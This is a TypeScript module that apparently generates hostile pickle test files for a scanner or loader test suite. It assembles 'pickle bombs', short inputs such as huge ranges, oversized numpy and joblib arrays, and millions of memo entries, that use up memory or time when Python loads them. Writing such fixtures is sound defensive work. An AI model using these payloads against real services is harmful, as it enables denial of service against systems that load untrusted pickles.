import { asm, assemble } from '../assemble-pickle.ts';
import { family, type HostileFile } from './hostile-file.ts';
import { call, dict, harmless, instance, pickle } from './pieces.ts';

const { proto, global, text, stop, build, mark, tuple1 } = asm;

/** A few bytes that would take much memory or time to load. */
export function pickleBombs(): HostileFile[] {
  return family('bomb of instructions', 'pkl', {
    'bytes out of nothing': pickle(call('builtins', 'bytes', asm.int(2 ** 31 - 1))),
    'bytearray out of nothing': pickle(call('builtins', 'bytearray', assemble(Buffer.from([0x8a, 5]), Buffer.from([0, 0, 0, 0, 64])))),
    'list of a range': pickle(call('builtins', 'list', call('builtins', 'range', asm.int(2 ** 31 - 1)))),
    'set of a range': pickle(call('builtins', 'set', call('builtins', 'range', asm.int(2 ** 31 - 1)))),
    'array out of nothing': pickle(
      call(
        'numpy.core.multiarray',
        '_reconstruct',
        global('numpy', 'ndarray'),
        assemble(asm.int(2 ** 31 - 1), tuple1),
        asm.bytes(Buffer.from('b')),
      ),
    ),
    'three million memo entries': assemble(proto(4), Buffer.alloc(6_000_000, Buffer.from([0x4e, 0x94])), stop),
    'a million marks': assemble(proto(2), '('.repeat(1_000_000), stop),
    'a huge number line': assemble(proto(2), 'I', '9'.repeat(1_000_000), '\n.'),
    'a huge announced text': assemble(proto(4), Buffer.from('8dffffffffffffff7f', 'hex'), stop),
    'arrays of objects inside each other': nestedArrays(40),
  });
}

function nestedArrays(depth: number): Buffer {
  const dtype = assemble(
    call('numpy', 'dtype', text('O8'), asm.int(0), asm.int(1)),
    mark,
    asm.int(3),
    text('|'),
    'NNN',
    asm.int(-1),
    asm.int(-1),
    asm.int(63),
    asm.tuple,
    build,
  );
  const wrapper = assemble(
    instance('joblib.numpy_pickle', 'NumpyArrayWrapper'),
    dict({
      subclass: global('numpy', 'ndarray'),
      shape: assemble(asm.int(1), tuple1),
      order: text('C'),
      dtype,
      allow_mmap: Buffer.from([0x89]),
    }),
    build,
  );
  return Buffer.concat([...Array.from({ length: depth }, () => assemble(proto(2), wrapper)), harmless, Buffer.alloc(depth, stop)]);
}
